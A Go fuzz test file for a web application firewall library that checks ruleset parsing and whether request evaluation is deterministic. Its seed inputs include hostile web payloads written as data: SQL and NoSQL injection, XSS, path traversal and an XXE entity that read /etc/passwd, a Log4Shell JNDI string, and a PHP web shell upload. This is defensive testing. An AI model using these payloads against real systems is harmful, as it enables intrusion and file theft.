package waf_test

import (
	"errors"
	"testing"

	"github.com/rampartsec/rampart/waf"
	"github.com/rampartsec/rampart/waf/httpinput"
	"github.com/rampartsec/rampart/waf/rules"
)

// FuzzParseRuleset: any input is either refused with a *RulesetError that
// lists at least one problem, or accepted and compiled by New.
func FuzzParseRuleset(f *testing.F) {
	f.Add([]byte(rules.Default()))
	f.Add([]byte(`{"version":"2.2","rules":[{"id":"a","name":"n","tags":{"type":"t"},"conditions":[{"operator":"match_regex","parameters":{"inputs":[{"address":"x","key_path":["k",0]}],"regex":"a+b"}}],"transformers":["lowercase","keys_only"]}]}`))
	f.Add([]byte(`{"version":"2.2","rules":[{"id":"a","name":"n","tags":{"type":"t"},"conditions":[{"operator":"ip_match","parameters":{"inputs":[{"address":"http.client_ip"}],"data":"ips"}}]}],"rules_data":[{"id":"ips","type":"ip_with_expiration","data":[{"value":"10.0.0.0/8","expiration":1}]}]}`))
	f.Add([]byte(`{"version":"2.2","rules":[],"exclusions":[{"id":"e","rules_target":[{"tags":{"type":"t"}}],"conditions":[{"operator":"exists","parameters":{"inputs":[{"address":"a"}]}}]}]}`))
	f.Add([]byte(`{"version":"1.0"}`))
	f.Add([]byte(`[]`))
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 64<<10 {
			return
		}
		rs, _, err := waf.ParseRuleset(data)
		if err != nil {
			var rse *waf.RulesetError
			if !errors.As(err, &rse) || len(rse.Problems) == 0 {
				t.Fatalf("error is not a RulesetError with problems: %v", err)
			}
			return
		}
		e, err := waf.New(rs, waf.Options{})
		if err != nil {
			return
		}
		c := e.NewContext()
		c.Run([]waf.Address{{Name: waf.AddrQuery, Value: waf.Strings("x")}})
		c.Close()
	})
}

// FuzzEvaluate runs arbitrary query strings, headers and bodies through the
// default ruleset: no panic, each rule matches at most once per request,
// and the verdict is deterministic.
func FuzzEvaluate(f *testing.F) {
	e := defaultEngine(f)
	f.Add("/search?q=1%27%20OR%20%271%27%3D%271", "Mozilla/5.0", "application/json", `{"a":"<script>alert(1)</script>"}`)
	f.Add("/a/../../etc/passwd", "sqlmap/1.0", "application/x-www-form-urlencoded", "x=%24%7Bjndi%3Aldap%3A%2F%2Fe%7D")
	f.Add("/?a[$ne]=1", "", "multipart/form-data; boundary=X", "--X\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n<?php system($_GET[1]); ?>\r\n--X--\r\n")
	f.Add("/", "curl", "text/xml", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`)
	f.Add("/api/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg/x%2Fy?z=fGlk", "&#x27;&#39;&#60", "application/json", `{"a":"e3siJGd0IjogIiJ9","b":"at java.lang.Thread.run(Thread.java:748)"}`)
	f.Fuzz(func(t *testing.T, uri, ua, ctype, body string) {
		in := &httpinput.Request{Method: "POST", URI: uri, Headers: [][2]string{{"User-Agent", ua}, {"Content-Type", ctype}}, Body: []byte(body), RemoteAddr: "203.0.113.5:1234"}
		verdict := func() map[string]int {
			c := e.NewContext()
			defer c.Close()
			seen := map[string]int{}
			addrs, _ := httpinput.Build(in, nil, nil)
			for _, m := range c.Run(addrs).Matches {
				seen[m.RuleID]++
			}
			n := len(addrs)
			addrs, _ = httpinput.BuildBody(in, nil, addrs)
			for _, m := range c.Run(addrs[n:]).Matches {
				seen[m.RuleID]++
			}
			for _, m := range c.Run([]waf.Address{{Name: waf.AddrStatus, Value: waf.String("200")}}).Matches {
				seen[m.RuleID]++
			}
			return seen
		}
		a, b := verdict(), verdict()
		for id, n := range a {
			if n != 1 {
				t.Fatalf("rule %s matched %d times in one request", id, n)
			}
			if b[id] != 1 {
				t.Fatalf("rule %s matched in one evaluation only", id)
			}
		}
		if len(a) != len(b) {
			t.Fatalf("non-deterministic: %v vs %v", a, b)
		}
	})
}
